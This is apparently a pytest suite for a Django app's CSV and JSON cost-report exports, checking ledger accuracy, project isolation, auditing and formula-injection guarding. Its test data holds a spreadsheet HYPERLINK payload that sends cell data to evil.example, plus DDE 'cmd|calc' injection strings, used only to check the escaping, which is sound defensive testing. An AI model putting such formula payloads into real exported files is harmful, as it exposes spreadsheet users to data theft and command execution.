"""Tables as files: what is in them is what the API and the ledger say, and nothing in them is a formula."""

import csv
import json
import threading
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command

from gateway.models import Call
from gateway.types import Usage
from projects.models import AuditEvent
from reports import downloads, tables
from reports.exporting import file_name
from reports.files import cell
from reports.tables import Wanted, table_of
from shadows.models import Shadow
from tests.analytics.ledgers import (
    HAIKU,
    NOON,
    OPUS,
    SHORT,
    build_call,
    make_answer,
    make_call,
    make_doubted_call,
    make_execution,
    make_flag,
    make_measured_workflow,
    make_project,
)
from tests.cast import member
from tests.neighbours import client_of
from workflows.models import Workflow

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"x")'
REFUND = "/api/v1/workflows/refund"


@pytest.fixture
def workflow():
    return make_measured_workflow(design_cost="5.20")


@pytest.fixture
def ask(workflow) -> Callable:
    """The rows of a table as CSV, each cell a text."""
    client = client_of(workflow.project, "read")

    def read(path: str, **query: str) -> list[dict[str, str]]:
        answer = client.get(f"/api/v1/{path}", {"format": "csv", "simulated": "false", **query})
        text = answer.getvalue().decode()
        assert answer.status_code == 200, text
        return list(csv.DictReader(StringIO(text, newline="")))

    return read


def test_the_ledger_comes_out_row_by_row_to_the_last_digit(workflow, ask):
    execution = make_execution(workflow)
    call = make_answer(execution, usage=Usage(input=1_001, output=200, thinking=5))
    doubted = make_doubted_call(execution, 7)
    rows = {row["id"]: row for row in ask("workflows/refund/exports/calls")}
    assert rows.keys() == {str(call.pk), str(doubted.pk)}
    row = rows[str(call.pk)]
    assert (row["workflow"], row["version"], row["step"]) == ("refund", "1.0.0", "classify")
    assert (row["execution"], row["finished_at"]) == (str(execution.pk), "2026-11-16T12:00:00Z")
    assert (row["input"], row["output"], row["thinking"], row["price_input"]) == ("1001", "200", "5", "1.00")
    assert (row["cost"], row["cost_state"], row["baseline_warm"]) == ("0.002001", "priced", "0.010005")
    assert (row["corrects"], row["simulated"], row["tier"]) == ("", "false", "")
    assert (rows[str(doubted.pk)]["cost"], rows[str(doubted.pk)]["cost_state"]) == ("0.000000000007", "upper_bound")


def test_a_correction_is_a_row_with_negative_money_which_stays_a_number(workflow, ask):
    doubted = make_doubted_call(make_execution(workflow), 7_000_000_000_000)
    correction = build_call(make_execution(workflow), HAIKU, Usage(), baseline="")
    correction.corrects, correction.cost, correction.cost_state = doubted, -6_500_000_000_000, "priced"
    correction.save(force_insert=True)
    (row,) = [row for row in ask("exports/calls") if row["corrects"]]
    assert (row["corrects"], row["cost"]) == (str(doubted.pk), "-6.50")


def test_the_days_add_up_to_the_summary(workflow, ask):
    for days in (0, 0, 3):
        make_answer(make_execution(workflow, NOON + timedelta(days=days)))
    make_call(make_execution(workflow, NOON + timedelta(days=3)), HAIKU, SHORT, at=NOON + timedelta(days=3))
    summary = client_of(workflow.project, "read").get(f"{REFUND}/costs?simulated=false").json()
    rows = ask("workflows/refund/exports/days")
    assert [(row["day"], row["completed"]) for row in rows] == [("2026-11-16", "2"), ("2026-11-19", "2")]
    assert [row["execution_cost"] for row in rows] == ["0.004", "0.004"]
    assert [row["design_cost"] for row in rows] == ["5.20", "0.00"]
    assert [row["savings"] for row in rows] == ["-5.184", "0.006"]
    assert summary["savings"] == "-5.178"
    for figure in ("execution_cost", "design_cost", "total_cost", "if_all_frontier", "savings"):
        assert sum(Decimal(row[figure]) for row in rows) == Decimal(summary[figure])
    assert (rows[0]["baseline_method"], rows[0]["baseline_model"], rows[0]["baseline_n"]) == (
        "repriced_warm",
        OPUS,
        "2",
    )


def test_a_day_is_what_the_costs_of_that_day_are(workflow):
    make_answer(make_execution(workflow))
    client = client_of(workflow.project, "read")
    (row,) = json.loads(client.get(f"{REFUND}/exports/days?baseline=repriced_cold").getvalue())["rows"]
    costs = client.get(f"{REFUND}/costs?since=2026-11-16&until=2026-11-17&baseline=repriced_cold").json()
    assert {name: row[name] for name in ("savings_percent", "paid_back_at", "escalation_rate", "unpriced_calls")} == {
        name: costs[name] for name in ("savings_percent", "paid_back_at", "escalation_rate", "unpriced_calls")
    }
    assert (row["baseline_method"], costs["baseline"]["method"]) == ("repriced_cold", "repriced_cold")
    flat = {name for name, value in costs.items() if not isinstance(value, dict | list)}
    assert flat - row.keys() == {"workflow", "since", "until", "currency", "unproven"}


def test_every_workflow_of_a_project_has_its_summary(workflow, ask):
    other = make_measured_workflow("invoices", project=workflow.project)
    said = {"evidence": "overridden", "reason": HOSTILE, "published_by": "alice", "prompt_format": 1}
    other.live = other.versions.get().publications.create(tier_map=other.live.tier_map, **said)
    other.save()
    make_answer(make_execution(workflow))
    rows = ask("exports/workflows")
    assert [(row["workflow"], row["completed"]) for row in rows] == [("invoices", "0"), ("refund", "1")]
    assert [(row["unproven"], row["overridden_because"]) for row in rows] == [("false", f"'{HOSTILE}"), ("true", "")]


def test_groups_are_the_rows_of_the_operators_metrics(workflow, ask):
    make_answer(make_execution(workflow, lane="fast"), tier="cheap", lane="fast", latency_ms=900)
    (row,) = ask("exports/versions")
    assert {name: value for name, value in row.items() if value} == {
        **{"workflow": "refund", "version": "1.0.0", "executions": "1", "finished": "1", "completed": "1"},
        **{"cost": "0.002", "cost_per_completed": "0.002", "calls": "1", "unpriced_calls": "0"},
        **{"latency_p50_ms": "2000", "latency_p95_ms": "2000", "call_latency_p50_ms": "900"},
        **{"call_latency_p95_ms": "900", "retry_rate": "0.0000", "escalation_rate": "0.0000"},
        **{"input_tokens": "1000", "output_tokens": "200", "cache_read_tokens": "0", "cache_write_tokens": "0"},
        **{"cache_savings": "0.00", "batch_savings": "0.00"},
    }
    for table, key in (("steps", "classify"), ("tiers", "cheap"), ("models", HAIKU), ("lanes", "fast")):
        assert [(row[table[:-1]], row["calls"], row["cost"]) for row in ask(f"exports/{table}")] == [
            (key, "1", "0.002")
        ]


def test_the_waterfall_goes_from_all_frontier_to_what_was_paid(workflow, ask):
    make_answer(make_execution(workflow))
    rows = ask("exports/waterfall?baseline=repriced_cold")
    assert [row["part"] for row in rows] == [
        *("if_all_frontier", "fewer_calls", "code", "tier", "cache", "batch"),
        *("unused_calls", "in_doubt", "design", "evaluation", "shadow", "total_cost"),
    ]
    first, *parts, last = [Decimal(row["amount"] or 0) for row in rows]
    assert (first, last) == (Decimal("0.01"), Decimal("5.202"))
    assert first - sum(parts) == last


def test_a_subject_is_of_what_compares_by_shadows(workflow):
    client = client_of(workflow.project, "read")
    assert client.get(f"{REFUND}/exports/days?subject=task").status_code == 422
    assert client.get(f"{REFUND}/exports/steps?subject=task").status_code == 400
    assert client.get(f"{REFUND}/exports/days?baseline=measured&subject=task").status_code == 200


def test_executions_come_with_their_cost_and_without_their_texts(workflow, ask):
    execution = make_execution(workflow, output={"kind": "refund"}, metadata={"who": "rosa"}, lane="fast")
    make_answer(execution)
    make_call(execution, "anthropic:nobodys-model", SHORT)
    make_answer(make_execution(workflow, NOON + timedelta(days=9)))
    (row,) = ask("exports/executions", until="2026-11-17")
    assert (row["id"], row["status"], row["purpose"], row["lane"]) == (
        *(str(execution.pk), "completed", "production"),
        "fast",
    )
    assert (row["cost"], row["calls"], row["input_tokens"], row["latency_ms"]) == ("", "2", "2000", "2000")
    assert (row["created_at"], row["finished_at"]) == ("2026-11-16T11:59:58Z", "2026-11-16T12:00:00Z")
    assert not {"input", "output", "metadata"} & row.keys()


def test_flags_evaluations_and_shadows_come_without_what_was_said(workflow, ask):
    execution = make_execution(workflow)
    flag = make_flag(execution, edge_case=HOSTILE, created_at=NOON)
    Shadow.objects.create(
        **{"project": workflow.project, "workflow": workflow, "version": execution.version, "past": execution},
        **{"flagged": True, "day": NOON.date(), "subject": "task", "model": OPUS, "prompt": "Secret words", "cost": 5},
        **{"simulated": False, "status": "completed", "said": "Secret words", "same": False},
    )
    (row,) = ask("workflows/refund/exports/flags")
    assert (row["id"], row["execution"], row["reason"], row["waiting"]) == (
        *(str(flag.pk), str(execution.pk), "uncovered"),
        "true",
    )
    assert row["edge_case"] == f"'{HOSTILE}"
    assert not {"explanation", "note"} & row.keys()
    (row,) = ask("exports/shadows")
    assert (row["past"], row["day"], row["same"], row["cost"]) == (
        *(str(execution.pk), "2026-11-16", "false"),
        "0.000000000005",
    )
    assert "Secret words" not in row.values()
    assert ask("exports/evaluations") == []


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "'"])
def test_no_name_is_a_formula(begins, workflow, ask):
    """Names that no definition could have: whatever stands in a column, however it came there."""
    name = f"{begins}cmd|' /C calc'!A0"
    Workflow.objects.filter(pk=workflow.pk).update(name=name)
    make_call(make_execution(workflow), HAIKU, SHORT, step=f"{begins}1+1", model_served=f"{begins}2, 3")
    (row,) = ask("exports/calls")
    assert (row["workflow"], row["step"], row["model_served"]) == (f"'{name}", f"'{begins}1+1", f"'{begins}2, 3")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (True, "true"),
        (0, "0"),
        (-5, "-5"),
        ("-0.000000000001", "-0.000000000001"),
        ("-1+1", "'-1+1"),
        ("1e5", "1e5"),
        ("-1e5", "'-1e5"),
        ("- 1", "'- 1"),
        ("a=1", "a=1"),
        ("-٣", "'-٣"),
    ],
)
def test_a_number_is_a_number_and_unknown_is_empty(value, written):
    assert cell(value) == written


def test_csv_is_as_rfc_4180_says_and_has_no_byte_order_mark(workflow):
    make_call(make_execution(workflow), HAIKU, SHORT, step='say "hi",\r\nthen go')
    answer = client_of(workflow.project, "read").get(
        "/api/v1/exports/steps?simulated=false", headers={"Accept": "text/csv"}
    )
    content = answer.getvalue()
    assert content.startswith(b"workflow,step,executions,finished,completed,cost,cost_per_completed,human_minutes,")
    assert b'batch_savings\r\nrefund,"say ""hi"",\r\nthen go",,,,0.002,0.002,,,,,,0,0,1,0,' in content
    assert content.endswith(b",1000,200,0,0,0.00,0.00\r\n")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="alice-steps.csv"'
    assert (answer["X-Content-Type-Options"], answer["Cache-Control"]) == ("nosniff", "no-store")


def test_json_has_numbers_truth_and_null(workflow):
    make_call(make_execution(workflow), "anthropic:nobodys-model", SHORT, step="Überprüfen")
    answer = client_of(workflow.project, "read").get("/api/v1/exports/calls?since=2026-11-01&simulated=false")
    said = json.loads(answer.getvalue())
    (row,) = said.pop("rows")
    assert said.pop("columns") == list(row)
    assert said == {
        **{"table": "calls", "workflow": None, "since": "2026-11-01", "until": None},
        **{"currency": "USD", "simulated": False},
    }
    assert (row["cost"], row["input"], row["batch"], row["step"]) == (None, 1000, False, "Überprüfen")
    assert json.loads(client_of(workflow.project, "read").get("/api/v1/exports/flags").getvalue())["rows"] == []


def test_it_reads_block_by_block_and_never_all_at_once(workflow, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(tables, "BLOCK", 2)
    execution = make_execution(workflow)
    for _ in range(5):
        make_call(execution, HAIKU, SHORT)
    wanted = Wanted(tables.Extent(workflow.project, workflow, simulated=False))
    opened = table_of("calls", workflow).open(wanted)
    assert opened.count == 5
    rows = iter(opened.rows)
    with django_assert_num_queries(3):  # a block, and the names in it
        next(rows), next(rows)
    make_call(execution, HAIKU, SHORT)  # behind the last one that was counted
    assert len(list(rows)) == 3


def test_too_many_rows_are_refused_before_the_first_byte(workflow, monkeypatch):
    monkeypatch.setattr(tables, "MOST", 1)
    for _ in range(2):
        make_call(make_execution(workflow), HAIKU, SHORT)
    answer = client_of(workflow.project, "read").get("/api/v1/exports/calls?format=csv&simulated=false")
    assert (answer.status_code, answer["Content-Type"]) == (422, "application/problem+json")
    assert answer.json()["detail"] == "There are more than 1 rows; a file has at most so many: ask for fewer days."
    assert not AuditEvent.objects.filter(verb="exported").exists()


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("exports/calls?format=xml", 400),
        ("exports/calls?since=2026-11-02&until=2026-11-02", 400),
        ("exports/calls?baseline=repriced_warm", 400),
        ("exports/nobody", 404),
        ("workflows/refund/exports/workflows", 404),
        ("workflows/nobody/exports/calls", 404),
    ],
)
def test_what_cannot_be_answered_is_refused_in_json_even_to_who_wants_csv(query, status, workflow):
    answer = client_of(workflow.project, "read").get(f"/api/v1/{query}", headers={"Accept": "text/csv"})
    assert (answer.status_code, answer.json()["status"]) == (status, status)
    assert answer["Content-Type"] == "application/problem+json"


def test_an_export_is_kept_in_the_audit(workflow):
    make_call(make_execution(workflow), HAIKU, SHORT)
    client_of(workflow.project, "read").get(f"{REFUND}/exports/calls?format=csv&since=2026-11-01&simulated=false")
    event = AuditEvent.objects.get(verb="exported")
    assert (event.kind, event.name, event.project) == ("workflow", "refund", workflow.project)
    assert event.actor.startswith("key:")
    assert event.detail == {
        **{"table": "calls", "format": "csv", "rows": 1, "since": "2026-11-01", "until": None, "simulated": False},
    }


def test_no_table_has_a_row_of_another_project(workflow, ask):
    elsewhere = make_measured_workflow("theirs", project=make_project("bob", {"cheap": HAIKU, "frontier": OPUS}))
    execution = make_execution(elsewhere)
    make_answer(execution)
    make_flag(execution)
    for table in tables.tables(None):
        rows = ask(f"exports/{table.name}")
        assert "theirs" not in str(rows)
        assert table.name in ("days", "workflows", "waterfall") or rows == []
    assert Call.objects.filter(project=elsewhere.project.pk).exists()


def test_a_file_is_named_after_what_is_in_it(workflow):
    workflow.name = '../"refund"\r\nX: 1'
    extent = tables.Extent(workflow.project, workflow, simulated=True, since=NOON.date())
    assert file_name(table_of("days", workflow), Wanted(extent), "csv") == "_refund_X_1-days-simulated-2026-11-16.csv"


def test_the_command_writes_the_same_file(workflow, tmp_path):
    make_call(make_execution(workflow), HAIKU, SHORT)
    path = tmp_path / "calls.csv"
    said = ["--project", "alice", "--table", "calls", "--since", "2026-11-01", "--real", "--output", str(path)]
    call_command("export_report", *said, stdout=StringIO())
    answer = client_of(workflow.project, "read").get(
        "/api/v1/exports/calls?format=csv&since=2026-11-01&simulated=false"
    )
    assert path.read_bytes() == answer.getvalue()
    assert AuditEvent.objects.filter(verb="exported").earliest("pk").actor == "command:export_report"


# In the admin.


def test_a_viewer_downloads_a_table_from_the_page_of_the_workflow(workflow):
    make_call(make_execution(workflow), HAIKU, SHORT)
    client = member(workflow.project)
    page = client.get(f"/admin/workflows/workflow/{workflow.pk}/change/").content.decode()
    assert f"/admin/workflows/workflow/{workflow.pk}/exports/" in page
    address = f"/admin/workflows/workflow/{workflow.pk}/exports/"
    assert 'name="table"' in client.get(address).content.decode()
    said = {"table": "calls", "format": "csv", "money": "real", "since": "2026-11-01"}
    answer = client.post(address, said)
    assert answer["Content-Disposition"] == 'attachment; filename="refund-calls-2026-11-01.csv"'
    assert len(answer.getvalue().decode().splitlines()) == 2
    assert AuditEvent.objects.get(verb="exported").actor == "user:rosa"
    refused = client.post(address, {**said, "until": "2026-11-01"}).content.decode()
    assert "until is a day after since" in refused


def test_nobody_elses_workflow_can_be_exported(workflow):
    client = member(make_project("bob"))
    assert client.get(f"/admin/workflows/workflow/{workflow.pk}/exports/").status_code == 404
    assert client.post(f"/admin/workflows/workflow/{workflow.pk}/exports/", {"table": "calls"}).status_code == 404


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("ok;=1+1", "ok;'=1+1"),
        ("ok\t=1+1", "ok\t'=1+1"),
        (";=cmd|' /C calc'!A0", ";'=cmd|' /C calc'!A0"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff@x", "'\ufeff@x"),
        ("\u22121+1", "'\u22121+1"),
        ("a - b; c + d", "a - b; c + d"),
        ("-5.00", "-5.00"),
    ],
)
def test_a_formula_is_guarded_wherever_a_cell_may_begin(text, guarded):
    assert cell(text) == guarded


def test_a_few_at_once_are_sent_and_the_next_one_is_told_to_wait(workflow, monkeypatch):
    monkeypatch.setattr(downloads, "_seats", threading.BoundedSemaphore(1))
    client = client_of(workflow.project, "read")
    taken = downloads._seats.acquire(blocking=False)
    refused = client.get(f"{REFUND}/exports/steps")
    assert (taken, refused.status_code, refused["Retry-After"] != "") == (True, 503, True)
    downloads._seats.release()
    for _ in range(3):
        assert client.get(f"{REFUND}/exports/steps").getvalue()
